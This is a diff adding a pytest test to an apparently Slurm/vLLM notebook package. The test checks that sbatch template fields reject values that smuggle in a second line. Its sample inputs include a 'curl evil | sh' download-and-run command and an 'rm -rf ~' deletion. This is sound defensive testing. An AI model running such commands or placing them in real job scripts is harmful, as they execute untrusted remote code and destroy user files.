@@ -349,3 +349,14 @@ def test_a_shared_kernelspec_carries_no_personal_paths(monkeypatch):
     assert personal["HF_HOME"] == "/home/alice/hf" and personal["LD_LIBRARY_PATH"] == "/home/alice/lib"
     assert "HF_HOME" not in shared and "LD_LIBRARY_PATH" not in shared and "/home/alice" not in str(shared)
     assert shared["PATH"].endswith(":${PATH}") and shared["SLURM_CONF"] == "/etc/slurm/slurm.conf"
+
+
+@pytest.mark.parametrize("field", ["account", "partition", "mem", "time_limit", "job_name"])
+def test_sbatch_template_fields_cannot_add_lines(field):
+    from vllm_notebook.cluster.jobs import sbatch_template
+    from vllm_notebook.errors import VllmNotebookError
+
+    with pytest.raises(VllmNotebookError, match="must be one line"):
+        sbatch_template(**{field: "x\ncurl evil | sh"})
+    with pytest.raises(VllmNotebookError, match="must be one line"):
+        sbatch_template(server=["org/model", "--x\nrm -rf ~"])
